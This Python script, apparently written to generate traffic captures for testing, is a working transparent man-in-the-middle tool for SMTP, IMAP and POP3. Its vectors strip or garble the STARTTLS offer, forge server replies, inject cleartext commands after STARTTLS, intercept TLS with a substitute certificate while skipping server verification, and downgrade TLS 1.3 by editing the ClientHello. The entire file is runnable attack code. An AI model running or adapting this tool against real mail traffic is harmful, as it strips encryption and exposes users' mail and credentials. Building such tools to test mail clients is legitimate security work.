#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A man in the middle who keeps mail from being encrypted, for captures of what that looks like.

strip.py PORT [--to HOST:PORT] VECTOR [ARGUMENT...]

Runs on a router between client and server that hands it connections by TPROXY to its PORT, and goes
on to the server from the client's own address and port: each side sees the other's addresses. What
is spoken follows from the server's port. --to: the connections end there instead. One class a vector:
see the end of this file.
"""

import select
import socket
import ssl
import struct
import sys
import threading
import time

IP_TRANSPARENT, IPV6_TRANSPARENT = 19, 75
SPOKEN = {25: "smtp", 465: "smtp", 587: "smtp", 143: "imap", 993: "imap", 110: "pop3", 995: "pop3"}
IMPLICIT = (465, 993, 995)
OFFER = {"smtp": b"STARTTLS", "imap": b"STARTTLS", "pop3": b"STLS"}
LIST = {"smtp": b"EHLO", "pop3": b"CAPA"}  # the command that asks for the list; IMAP's says so itself
YES = {"smtp": b"220", "imap": b"OK", "pop3": b"+OK"}


def transparent(sock):
    if sock.family == socket.AF_INET6:
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
    else:
        sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return sock


def close_hard(sock):
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.close()


class Session:
    """A connection on both its sides: lines up to the beginning of TLS, and bytes from there.

    A vector is a session that changes some of what passes. Each method gets what one side said and
    returns what the other is to hear; b"": nothing.
    """

    def __init__(self, client, server, *arguments):
        self.sides, self.arguments = {"client": client, "server": server}, arguments
        self.port = client.getsockname()[1]
        self.protocol = SPOKEN[self.port]
        self.raw = self.port in IMPLICIT
        self.left = {"client": b"", "server": b""}
        self.reply = []  # the server's lines so far that belong together
        self.greeted, self.asked, self.verb, self.tag = False, False, b"", b""

    # ---- what vectors change ----

    def greeting(self, line):
        return line

    def offer(self, lines):
        """The list of what the server can do: all lines of EHLO's or CAPA's answer, or IMAP's one."""
        return lines

    def command(self, line):
        """A line of the client but STARTTLS."""
        return line

    def starttls(self, line):
        return line

    def accepted(self, line):
        """The server's yes to STARTTLS."""
        return line

    def tls_begins(self):
        """Both sides are about to speak TLS."""

    def from_client_raw(self, data):
        return data

    # ---- the way of the bytes ----

    def run(self):
        open_sides = ["client", "server"]
        try:
            if self.raw:
                self.tls_begins()
            while open_sides:
                for side in self.readable(open_sides):
                    data = self.sides[side].recv(65536)
                    self.left[side] += data
                    self.pump()
                    if not data:
                        open_sides.remove(side)
                        self.sides["server" if side == "client" else "client"].shutdown(socket.SHUT_WR)
        except OSError as error:
            print("ended:", error)
        for sock in self.sides.values():
            sock.close()

    def readable(self, sides):
        waiting = {self.sides[side]: side for side in sides}
        full = [sock for sock in waiting if isinstance(sock, ssl.SSLSocket) and sock.pending()]
        return [waiting[sock] for sock in full or select.select(list(waiting), [], [])[0]]

    def pump(self):
        while not self.raw and self.next_line("server", self.server_line):
            pass
        while not self.raw and not self.asked and self.next_line("client", self.client_line):
            pass
        if self.raw:
            self.send("server", self.from_client_raw(self.take("client")))
            self.send("client", self.take("server"))

    def take(self, side):
        data, self.left[side] = self.left[side], b""
        return data

    def next_line(self, side, handle):
        line, end, rest = self.left[side].partition(b"\n")
        if not end:
            return False
        self.left[side] = rest
        handle(line + end)
        return True

    def send(self, side, data):
        if data:
            print("to", side, data[:200])
            self.sides[side].sendall(data)

    def server_line(self, line):
        if not self.greeted:
            self.greeted = True
            self.send("client", self.greeting(self.offer([line])[0] if b"CAPABILITY" in line else line))
        elif self.asked:
            self.answer(line)
        else:
            self.reply.append(line)
            if self.complete(line):
                lines, self.reply = self.reply, []
                self.send("client", b"".join(self.offer(lines) if self.is_list(lines) else lines))

    def complete(self, line):
        if self.protocol == "smtp":
            return line[3:4] != b"-"
        if self.protocol == "pop3" and self.verb == LIST["pop3"]:
            return line.rstrip() == b"." or line.startswith(b"-ERR")
        return True

    def is_list(self, lines):
        if self.protocol == "imap":
            return b"CAPABILITY " in lines[0]
        return self.verb == LIST[self.protocol] and lines[0][:3] in (b"250", b"+OK")

    def client_line(self, line):
        words = line.split()
        if self.protocol == "imap" and words:
            self.tag, words = words[0], words[1:]
        self.verb = words[0].upper() if words else b""
        if self.verb == OFFER[self.protocol]:
            self.send("server", self.starttls(line))
        else:
            self.send("server", self.command(line))

    def forward_starttls(self, line):
        self.asked = True
        return line

    def answer(self, line):
        words = line.split()
        if self.protocol == "imap" and words[0] == b"*":
            self.send("client", line)
            return
        self.asked = False
        accepted = words[self.protocol == "imap"] == YES[self.protocol]
        self.send("client", self.accepted(line) if accepted else line)
        if accepted:
            self.tls_begins()
            self.raw = True

    def tagged(self, text):
        """An answer to the client's line, with its tag in IMAP."""
        return (self.tag + b" " if self.protocol == "imap" else b"") + text.encode() + b"\r\n"


class Honest(Session):
    """Passes STARTTLS on; what the vectors that let TLS begin have in common."""

    def starttls(self, line):
        return self.forward_starttls(line)


# ---- vectors ------------------------------------------------------------------------------------


class Remove(Honest):
    """remove [KEYWORD...]: the offer is left out of the list, and these keywords too."""

    def offer(self, lines):
        gone = [OFFER[self.protocol]] + [word.encode() for word in self.arguments]
        if self.protocol == "imap":
            for word in gone:
                lines = [line.replace(b" " + word, b"") for line in lines]
            return lines
        first = 4 if self.protocol == "smtp" else 0
        kept = [line for line in lines if line[first:].split()[0] not in gone]
        if self.protocol == "smtp":
            kept[-1] = kept[-1][:3] + b" " + kept[-1][4:]
        return kept


class Garble(Honest):
    """garble FILLER: filler in the place of the offer."""

    def offer(self, lines):
        return [line.replace(OFFER[self.protocol], self.arguments[0].encode()) for line in lines]


class Banner(Honest):
    """banner: the greeting is overwritten, all but 2 and 0, as a "fixup" firewall does."""

    def greeting(self, line):
        return line[:4] + bytes(c if c in b"20" else 42 for c in line[4:].rstrip()) + b"\r\n"


class BannerGarble(Banner, Garble):
    """banner-garble FILLER: both."""


class Fixup(Banner):
    """fixup: the same, and the server sees XXXX in the place of EHLO, and of STARTTLS."""

    def command(self, line):
        return b"X" * 4 + line[4:] if self.verb == b"EHLO" else line

    def starttls(self, line):
        return b"X" * 8 + b"\r\n"


class Answer(Session):
    """answer TEXT: STARTTLS never reaches the server, this is the answer."""

    def starttls(self, line):
        self.send("client", self.tagged(self.arguments[0]))
        return b""


class NoEhlo(Honest):
    """noehlo: EHLO never reaches the server: not implemented."""

    def command(self, line):
        if self.verb != b"EHLO":
            return line
        self.send("client", b"502 5.5.1 Command not implemented\r\n")
        return b""


class Greet(Honest):
    """greet TEXT: another greeting."""

    def greeting(self, line):
        return self.arguments[0].encode() + b"\r\n"


class GarbleCommand(Session):
    """garble-command: the server gets filler in the place of STARTTLS."""

    def starttls(self, line):
        return line.replace(OFFER[self.protocol], b"X" * len(OFFER[self.protocol]))


class InsertCommand(Honest):
    """insert-command TEXT: bytes in the clear behind STARTTLS, in one segment with it."""

    def starttls(self, line):
        return self.forward_starttls(line) + self.arguments[0].encode().decode("unicode_escape").encode()


class InsertReply(Honest):
    """insert-reply TEXT: bytes in the clear behind the server's yes."""

    def accepted(self, line):
        return line + self.arguments[0].encode().decode("unicode_escape").encode()


class Intercept(Honest):
    """intercept CERTIFICATE KEY: TLS with each side, and the mail in the clear in between."""

    def tls_begins(self):
        inside = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        inside.load_cert_chain(*self.arguments)
        inside.maximum_version = ssl.TLSVersion.TLSv1_2
        outside = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        outside.check_hostname, outside.verify_mode = False, ssl.CERT_NONE
        self.sides["client"] = inside.wrap_socket(self.sides["client"], server_side=True)
        self.sides["server"] = outside.wrap_socket(self.sides["server"])


class Junk(Session):
    """junk HOW [TEXT]: yes to STARTTLS without the server, and no TLS behind it: HOW is text (TEXT comes
    instead of a ServerHello), alert, reset, or silence. What comes then is passed on again."""

    waiting = False

    def starttls(self, line):
        yes = {"smtp": "220 2.0.0 Ready to start TLS", "imap": "OK Begin TLS negotiation now.",
               "pop3": "+OK Begin TLS negotiation now."}  # fmt: skip
        self.send("client", self.tagged(yes[self.protocol]))
        self.waiting = True
        return b""

    def pump(self):
        hello = self.left["client"]
        if not self.waiting:
            super().pump()
        elif len(hello) >= 5 and len(hello) >= 5 + struct.unpack("!H", hello[3:5])[0]:
            self.take("client")
            self.break_it(*self.arguments)

    def break_it(self, how, text=""):
        time.sleep(0.05)
        if how == "reset":
            close_hard(self.sides["client"])
            raise OSError("reset")
        if how == "alert":
            self.send("client", bytes.fromhex("15030300020228"))
        if how == "text":
            self.send("client", text.encode() + b"\r\n")
        self.waiting = how == "silence"


class No13(Honest):
    """no13: the ClientHello without supported_versions, so that the server cannot take TLS 1.3."""

    changed = False

    def from_client_raw(self, data):
        if self.changed or not data:
            return data
        self.changed = True
        return without_extension(data, 43)


def without_extension(record, number):
    """A record that is one ClientHello, without that extension."""
    at = 5 + 4 + 2 + 32
    at += 1 + record[at]
    at += 2 + struct.unpack_from("!H", record, at)[0]
    at += 1 + record[at]
    head, rest, kept = record[5:at], record[at + 2 :], b""
    while rest:
        kind, size = struct.unpack_from("!HH", rest)
        if kind != number:
            kept += rest[: 4 + size]
        rest = rest[4 + size :]
    hello = head[4:] + struct.pack("!H", len(kept)) + kept
    hello = head[:1] + len(hello).to_bytes(3, "big") + hello
    return record[:3] + struct.pack("!H", len(hello)) + hello


class OneSegment(Honest):
    """one-segment: no attack but a box that cannot take a ClientHello which spans two segments: silence."""

    stuck = False

    def from_client_raw(self, data):
        size = struct.unpack("!H", data[3:5])[0] if len(data) >= 5 else 0
        if data[:1] == b"\x16" and data[5:6] == b"\x01" and 5 + size > 1448:
            self.stuck = True
        return b"" if self.stuck else data


VECTORS = {
    "remove": Remove, "garble": Garble, "banner": Banner, "banner-garble": BannerGarble, "fixup": Fixup, "answer": Answer,
    "noehlo": NoEhlo, "greet": Greet, "garble-command": GarbleCommand,
    "insert-command": InsertCommand, "insert-reply": InsertReply, "intercept": Intercept,
    "junk": Junk, "no13": No13, "one-segment": OneSegment, "pass": Honest,
}  # fmt: skip


def serve(client, target, vector, arguments):
    client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    server = transparent(socket.socket(client.family))
    server.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    server.bind(client.getpeername()[:2])
    server.connect(target or client.getsockname()[:2])
    vector(client, server, *arguments).run()
    sys.stdout.flush()


def main():
    arguments, target = sys.argv[1:], None
    port = int(arguments.pop(0))
    if arguments[0] == "--to":
        host, _, to_port = arguments[1].rpartition(":")
        target, arguments = (host, int(to_port)), arguments[2:]
    vector = VECTORS[arguments.pop(0)]
    listeners = []
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        sock = transparent(socket.socket(family))
        sock.bind((address, port))
        sock.listen()
        listeners.append(sock)
    while True:
        for sock in select.select(listeners, [], [])[0]:
            client, _ = sock.accept()
            threading.Thread(target=serve, args=(client, target, vector, arguments), daemon=True).start()


main()
